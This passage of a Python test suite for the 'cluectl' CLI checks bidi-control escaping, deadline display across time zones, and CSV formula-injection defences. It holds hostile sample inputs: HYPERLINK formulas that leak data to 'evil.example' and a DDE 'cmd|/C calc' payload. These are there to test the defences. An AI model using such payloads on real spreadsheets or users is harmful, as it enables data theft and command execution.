        with db, db.cursor() as q:
            q.execute(sql, args)
    finally:
        db.close()


def _on_a_terminal(c, user, *args):
    """Run cluectl with its stdout a pseudo-terminal; returns what it wrote there (bytes)."""
    import pty
    main, sub = pty.openpty()
    env = dict(os.environ, CLUED_SERVER=c.srv.addr, CLUED_TOKEN=user.token)
    env.setdefault("ASAN_OPTIONS", "detect_leaks=1")
    p = subprocess.Popen([harness.CLUECTL, *args], env=env, stdout=sub, stderr=subprocess.PIPE)
    os.close(sub)
    out = b""
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:  # EIO once the child closed its end
            break
        if not chunk:
            break
        out += chunk
    os.close(main)
    assert p.wait(timeout=60) == 0, p.stderr.read()
    p.stderr.close()
    return out


def test_bidi_controls_shown_by_name(c):
    """Bidirectional overrides and isolates (Trojan Source) in server text reach no terminal:
    the table, record and note views show them as <U+202E>, --json escapes them (\\u202e) and
    stays JSON, CSV keeps them for a file and names them on a terminal. The server refuses them
    in a title; a title stored before that rule, and free text (summary, notes), carry them."""
    w = c.w
    rlo, lri, pdi = "\u202e", "\u2066", "\u2069"
    r = c.ctl(w.G1.member, "clue", "submit", "--title", "标题" + rlo + "ABC", "--summary", "s", "--source", "AUDIT",
              "--subject-name", "n", "--host-unit", "h", check=1)
    assert r.stderr.startswith("INVALID_ARGUMENT: title must not contain invisible or bidirectional formatting "
                               "(U+202E)"), r.stderr
    summary = "第一行" + rlo + "fdp.exe\n第二行" + lri + "x" + pdi
    cid = c.submit(w.G1.member, title="双向标题", summary=summary)["id"]
    _poke(c, "UPDATE clues SET title = %s WHERE id = %s", "标题" + rlo + "CBA.exe", cid)
    c.ctl(w.G1.member, "clue", "note", str(cid), "--kind", "OTHER", "--text", "note" + rlo + "X", check=0)

    def shown(out):
        assert rlo not in out and lri not in out and pdi not in out, ascii(out)
        return out

    out = shown(c.ctl(w.G1.member, "clue", "get", str(cid), check=0).stdout)
    assert "标题<U+202E>CBA.exe" in out and "第一行<U+202E>fdp.exe 第二行<U+2066>x<U+2069>" in out, out
    out = shown(c.ctl(w.G1.member, "clue", "notes", str(cid), check=0).stdout)
    assert "note<U+202E>X" in out, out
    out = shown(c.ctl(w.G1.member, "clue", "list", check=0).stdout)
    assert "标题<U+202E>CBA.exe" in out, out
    raw = c.ctl(w.G1.member, "--json", "clue", "get", str(cid), check=0).stdout
    assert "标题\\u202eCBA.exe" in shown(raw), raw
    doc = json.loads(raw)
    assert doc["title"] == "标题" + rlo + "CBA.exe" and doc["summary"] == summary, doc

    case = harness.stubs().case_pb2
    jc = w.R1.leader.case.CreateJointCase(case.CreateJointCaseRequest(
        title="案件", basis="x", participant_unit_ids=[w.G1.id], clue_ids=[c.submit(w.G1.member)["id"]],
        request_id=harness.new_request_id()), timeout=10)
    _poke(c, "UPDATE joint_cases SET title = %s WHERE id = %s", "案件" + rlo + "X", jc.id)
    today = time.strftime("%Y-%m-%d")
    args = ("stats", "--from", today, "--to", today, "--csv", "--cases")
    out = c.ctl(w.R1.leader, *args, check=0).stdout
    assert f"\n{jc.id},案件{rlo}X," in out, ascii(out)  # a file gets the data as it is
    out = _on_a_terminal(c, w.R1.leader, *args).decode()
    assert f"\n{jc.id},案件<U+202E>X," in out.replace("\r\n", "\n") and rlo not in out, ascii(out)


# ---- the rectification ledger ------------------------------------------------------------------


def test_rect_deadline_is_the_day_typed(c):
    """--deadline 2026-12-31 is sent as the local midnight that ends that day, and every place
    cluectl shows it says the day typed, "2026-12-31 (end of day)", not the next day's date.
    The zone is the process's (TZ): the same item read in another zone shows that zone's time."""
    env = {"CLUED_SERVER": c.srv.addr, "CLUED_TOKEN": c.w.G1.leader.token, "TZ": "CST-8"}
    day = time.strftime("%Y-%m-%d", time.gmtime(time.time() + 8 * 3600 + 40 * 86400))
    create = ["rect", "create", "--host-unit", "市发展改革委", "--description", "期限显示", "--category", "作风建设",
              "--source", "supervision"]
    r = harness.cluectl(*create, "--deadline", day, env=env, check=0)
    assert r.stdout.endswith(f", deadline {day} (end of day)\n"), r.stdout
    iid = re.match(r"rectification item #(\d+) ", r.stdout).group(1)
    # Sent as the midnight (UTC+08:00) after the day typed.
    y, m, d = (int(x) for x in day.split("-"))
    end = (int(time.mktime((y, m, d, 0, 0, 0, 0, 0, 0)) - time.mktime((1970, 1, 1, 0, 0, 0, 0, 0, 0)))
           + 86400 - 8 * 3600) * 1000
    j = json.loads(harness.cluectl("--json", "rect", "get", iid, env=env, check=0).stdout)
    assert int(j["deadline_ms"]) == end, (j["deadline_ms"], end)
    out = harness.cluectl("rect", "get", iid, env=env, check=0).stdout
    assert re.search(rf"^deadline: +{day} \(end of day\)$", out, re.M), out
    out = harness.cluectl("rect", "list", "--host-unit", "市发展改革委", env=env, check=0).stdout
    assert f" {day} (end of day) " in out, out
    r = harness.cluectl("rect", "plan", iid, "--version", "1", "--plan", "整改", env=env, check=0)
    assert r.stdout.endswith(f", deadline {day} (end of day)\n"), r.stdout
    # In UTC the same instant is 16:00 of the day typed.
    out = harness.cluectl("rect", "get", iid, env={**env, "TZ": "UTC0"}, check=0).stdout
    assert re.search(rf"^deadline: +{day} 16:00$", out, re.M), out
    # A deadline at another time of day shows that time.
    r = harness.cluectl(*create, "--deadline", f"{day}T18:30:00+08:00", env=env, check=0)
    assert r.stdout.endswith(f", deadline {day} 18:30\n"), r.stdout


def test_stats_csv_formula_cells(c):
    """A unit name (set by an ADMIN) or a case title (by a room's LEADER) that a spreadsheet
    would run as a formula (= + - @ first) is written with a leading quote in stats --csv and
    stats --csv --cases; ids, counts and other text stay as they are. Adds units: runs last."""
    S = harness.stubs()
    w = c.w
    names = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1",
             "-2+3"]
    ids = [w.admin.admin.CreateUnit(S.admin_pb2.CreateUnitRequest(
        kind=S.common_pb2.UNIT_KIND_REGION, code=f"FQ{i}", name=n), timeout=10).id for i, n in enumerate(names)]
    title = '=HYPERLINK("http://evil.example/"&A1,"案件")'
    case = w.R1.leader.case.CreateJointCase(S.case_pb2.CreateJointCaseRequest(
        title=title, basis="x", participant_unit_ids=[w.G1.id], clue_ids=[c.submit(w.G1.member)["id"]],
        request_id=harness.new_request_id()), timeout=10)
    today = time.strftime("%Y-%m-%d")
    units = sum((["--unit", str(i)] for i in ids + [w.G1.id]), [])
    r = c.ctl(w.auditor, "stats", "--from", today, "--to", today, "--csv", *units, check=0)
    rows = {x[0]: x for x in csv.reader(io.StringIO(r.stdout))}
    for uid, name in zip(ids, names):
        assert rows[str(uid)][2] == "'" + name and rows[str(uid)][3:13] == ["0"] * 6 + [""] * 3 + ["yes"], rows[str(uid)]
    g1 = rows[str(w.G1.id)]
    assert g1[1:3] == ["G1", "group G1"] and g1[3].isdigit() and g1[12] in ("yes", "no"), g1
    assert f'{ids[0]},FQ0,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击查看"")",' in r.stdout, r.stdout
    assert f"\n{ids[2]},FQ2,'+1+1," in r.stdout, r.stdout
    r = c.ctl(w.R1.leader, "stats", "--from", today, "--to", today, "--csv", "--cases", check=0)
    rows = {x[0]: x for x in csv.reader(io.StringIO(r.stdout))}
    assert rows[str(case.id)] == [str(case.id), "'" + title, "1", "0", "0", "0"], rows[str(case.id)]


if __name__ == "__main__":
    harness.run_tests(dict(globals()), setup, teardown)
